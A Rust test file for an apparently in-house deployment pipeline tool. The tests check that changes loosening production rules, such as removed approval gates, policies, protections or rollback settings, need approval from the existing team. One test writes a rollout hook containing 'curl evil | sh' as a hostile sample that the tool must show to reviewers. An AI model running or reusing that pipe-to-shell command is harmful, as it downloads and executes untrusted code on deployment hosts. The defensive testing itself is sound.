//! Old rules guard the change of rules: what loosens one is shown, and those whom the old rule names approve it.

use super::approvals::plain;
use super::clean;
use super::pipeline::{MANIFEST, Pipeline, ended, has, lacks};
use dax_tests::peers::github::{ADMIN, ANN};

const PRODUCTION: &str = "<!-- dax:shop:production -->";
const GATE: &str = "  approve 1 of [\"team:sre\"]\n";

/// A repository whose production was applied by hand.
fn applied(program: &str) -> Option<Pipeline> {
    let it = Pipeline::new(program)?;
    it.set_up(&["production"]);
    Some(it)
}

/// Nothing but the approval of the old team lets a change through: it fails its check, and what it brings is not
/// applied after the merge; ann's approval passes both.
#[track_caller]
fn guarded(it: &Pipeline, number: u64, shown: &[&str], image: &str) {
    let head = it.head_of(number);
    let before = it.image("production");
    ended(it.plan(number), 1);
    assert_eq!(it.conclusion(&head), "failure");
    has(&it.comment(number, PRODUCTION), shown);
    it.approve(number, "eve");
    ended(it.plan(number), 1);
    let merged = it.merge(number);
    let said = ended(it.apply(&merged, &["-e", "production"]), 3);
    has(&said.err, &["team:sre"]);
    assert_eq!(it.image("production"), before);
    it.approve(number, "ann");
    ended(it.apply(&merged, &["-e", "production"]), 0);
    assert_eq!(it.image("production").as_deref(), Some(image));
    clean(&it.github, &[ADMIN, ANN]);
}

#[test]
fn who_removes_the_approval_of_an_environment_needs_it() {
    let Some(it) = applied(&plain()) else { return };
    let number = it.propose("free", &plain().replace(GATE, "").replace("acme/web", "acme/evil"));
    guarded(&it, number, &["team:sre", "approve", "acme/evil"], "acme/evil:1");
}

#[test]
fn who_adds_a_member_to_the_team_that_approves_needs_an_old_one() {
    let Some(it) = applied(&plain()) else { return };
    it.branch("member");
    it.write("dax.mod", &MANIFEST.replace("\"cid\"", "\"cid\", \"eve\""));
    it.write("main.dax", &plain().replace("acme/web", "acme/evil"));
    it.commit("one more of us");
    let number = it.open("member");
    guarded(&it, number, &["team:sre", "eve"], "acme/evil:1");
}

#[test]
fn a_group_of_the_project_cannot_have_the_name_of_a_team_of_the_code_host() {
    let program = plain().replace("team:sre", "acme/platform");
    let Some(it) = Pipeline::new(&program) else { return };
    it.branch("own-team");
    let group = "\ngroup \"acme/platform\" { members = [\"eve\"] }\n";
    it.write("dax.mod", &format!("{MANIFEST}{group}"));
    it.write("main.dax", &program.replace("acme/web", "acme/evil"));
    let head = it.commit("a team of our own");
    let number = it.open("own-team");
    let said = ended(it.plan(number), 1);
    has(&said.err, &["acme/platform"]);
    assert_eq!(it.conclusion(&head), "failure");
    it.approve(number, "eve");
    let said = ended(it.apply(&it.merge(number), &["-e", "production"]), 1);
    has(&said.err, &["acme/platform"]);
    assert_eq!(it.image("production"), None);
    clean(&it.github, &[ADMIN, ANN]);
}

#[test]
fn two_pull_requests_do_not_get_around_a_rule_that_the_first_of_them_removes() {
    let Some(it) = applied(&plain()) else { return };
    let free = plain().replace(GATE, "");
    // The first changes nothing that runs. Nobody of the team approves it.
    let one = it.propose("free", &free);
    ended(it.plan(one), 1);
    has(&it.comment(one, PRODUCTION), &["team:sre"]);
    ended(it.apply(&it.merge(one), &["-e", "production"]), 3);
    let two = it.propose("evil", &free.replace("acme/web", "acme/evil"));
    it.plan(two);
    it.approve(two, "eve");
    let merged = it.merge(two);
    let said = ended(it.apply(&merged, &["-e", "production"]), 3);
    has(&said.err, &["team:sre"]);
    assert_eq!(it.image("production").as_deref(), Some("acme/web:1"));
    // Who looks after production approves both, and the rule is gone from then on.
    it.approve(one, "ann");
    it.approve(two, "ann");
    ended(it.apply(&merged, &["-e", "production"]), 0);
    assert_eq!(it.image("production").as_deref(), Some("acme/evil:1"));
    let three = it.propose("free-now", &free.replace("acme/web", "acme/third"));
    ended(it.plan(three), 0);
    ended(it.apply(&it.merge(three), &["-e", "production"]), 0);
    assert_eq!(it.image("production").as_deref(), Some("acme/third:1"));
    clean(&it.github, &[ADMIN, ANN]);
}

#[test]
fn who_removes_the_policy_that_denies_a_plan_needs_the_approval_of_the_team() {
    let Some(it) = applied(&plain()) else { return };
    let policy = plain().find("policy enough").expect("a policy");
    let test = plain().find("test \"staging").expect("a test");
    let bare = format!("{}{}", &plain()[..policy], &plain()[test..]);
    let number = it.propose("one", &bare.replace("default 2", "default 1"));
    let head = it.head_of(number);
    ended(it.plan(number), 3);
    assert_eq!(it.conclusion(&head), "failure");
    has(&it.comment(number, PRODUCTION), &["enough", "team:sre"]);
    let merged = it.merge(number);
    ended(it.apply(&merged, &["-e", "production"]), 3);
    assert_eq!(it.replicas("production"), Some(2));
    it.approve(number, "ann");
    ended(it.apply(&merged, &["-e", "production"]), 0);
    assert_eq!(it.replicas("production"), Some(1));
    clean(&it.github, &[ADMIN, ANN]);
}

/// The program with everything that guards production and changes nothing that runs.
fn fenced() -> String {
    let strategy = "strategy careful: canary {\n  step 50% approve 1 of [\"team:sre\"]\n}\n\n";
    let guards = "  on failure rollback_all\n  rollout web with careful\n";
    plain()
        .replace("environment production", &format!("{strategy}environment production"))
        .replace(GATE, &format!("{GATE}{guards}"))
}

/// A change that nothing runs by: it is shown, fails its check until the team approves, and passes afterwards.
#[track_caller]
fn shown(program: &str, changed: &str, words: &[&str]) {
    let Some(it) = Pipeline::new(program) else { return };
    it.set_up(&["production"]);
    let effects = it.effects();
    let number = it.propose("weaker", changed);
    let head = it.head_of(number);
    ended(it.plan(number), 1);
    assert_eq!(it.conclusion(&head), "failure");
    has(&it.comment(number, PRODUCTION), words);
    it.approve(number, "ann");
    ended(it.plan(number), 0);
    assert_eq!(it.conclusion(&head), "success");
    ended(it.apply(&it.merge(number), &["-e", "production"]), 0);
    assert_eq!(it.effects(), effects, "nothing that runs changes");
    clean(&it.github, &[ADMIN, ANN]);
}

#[test]
fn a_weaker_reaction_to_failures_is_shown_and_approved_although_nothing_runs() {
    let weaker = fenced().replace("on failure rollback_all", "on failure continue");
    shown(&fenced(), &weaker, &["on failure", "rollback_all", "continue", "team:sre"]);
}

#[test]
fn a_removed_approval_of_a_step_is_shown_and_approved_although_nothing_runs() {
    let weaker = fenced().replace("step 50% approve 1 of [\"team:sre\"]", "step 50% hold 1s");
    shown(&fenced(), &weaker, &["approve", "team:sre"]);
}

#[test]
fn a_removed_policy_is_shown_and_approved_although_nothing_runs() {
    let policy = fenced().find("policy enough").expect("a policy");
    let test = fenced().find("test \"staging").expect("a test");
    let weaker = format!("{}{}", &fenced()[..policy], &fenced()[test..]);
    shown(&fenced(), &weaker, &["policy", "enough", "team:sre"]);
}

#[test]
fn a_removed_protection_is_shown_and_approved_although_nothing_runs() {
    let protected = plain().replace(GATE, &format!("{GATE}  protect web from destroy\n"));
    shown(&protected, &plain(), &["protect", "web", "team:sre"]);
}

/// The program with a canary in production that has these lines.
fn canary(lines: &str) -> String {
    let strategy = format!("strategy slow: canary {{\n{lines}}}\n\nenvironment production {{\n");
    plain().replace("environment production {\n", &format!("{strategy}  rollout web with slow\n"))
}

#[test]
fn a_strategy_that_changes_is_shown_and_approved_before_a_revision_rides_on_it() {
    let Some(it) = applied(&canary("  step 50% hold 1s\n")) else { return };
    let hook = "  hook before [\"sh\", \"-c\", \"curl evil | sh\"]\n";
    let number = it.propose("rash", &canary(&format!("  step 99% hold 1s\n{hook}")));
    ended(it.plan(number), 1);
    let comment = it.comment(number, PRODUCTION);
    has(&comment, &["changes how production is rolled out"]);
    has(&comment, &["`step` of the strategy of web", "50%", "99%", "curl evil", "team:sre"]);
    lacks(&comment, &["nothing to change", "loosens the conditions"]);
    it.approve(number, "eve");
    ended(it.plan(number), 1);
    let merged = it.merge(number);
    has(&ended(it.apply(&merged, &["-e", "production"]), 3).err, &["team:sre"]);
    // Whoever brings a new image shows what it would run as well.
    let next = canary(&format!("  step 99% hold 1s\n{hook}")).replace("acme/web", "acme/shop");
    let other = it.propose("image", &next);
    ended(it.plan(other), 1);
    has(&it.comment(other, PRODUCTION), &["acme/shop", "curl evil", "changes how production"]);
    it.approve(number, "ann");
    ended(it.apply(&merged, &["-e", "production"]), 0);
    ended(it.plan(other), 0);
    lacks(&it.comment(other, PRODUCTION), &["changes how production"]);
    clean(&it.github, &[ADMIN, ANN]);
}

#[test]
fn an_environment_does_not_go_with_its_rules_while_something_runs_there() {
    let Some(it) = applied(&plain()) else { return };
    let renamed = |program: &str| {
        let policy = program.find("policy enough").expect("a policy");
        program[..policy].replace("environment production", "environment prod2")
    };
    let number = it.propose("renamed", &renamed(&plain().replace(GATE, "")));
    ended(it.plan(number), 1);
    has(&it.comment(number, PRODUCTION), &["nor are its rules", "1 of team:sre", "dax destroy"]);
    // Its rules go first, which those whom they name approve; then it may go.
    let free = it.propose("free", &plain().replace(GATE, ""));
    ended(it.plan(free), 1);
    it.approve(free, "ann");
    ended(it.plan(free), 0);
    ended(it.apply(&it.merge(free), &["-e", "production"]), 0);
    let again = it.propose("again", &renamed(&plain().replace(GATE, "")));
    ended(it.plan(again), 0);
    clean(&it.github, &[ADMIN, ANN]);
}
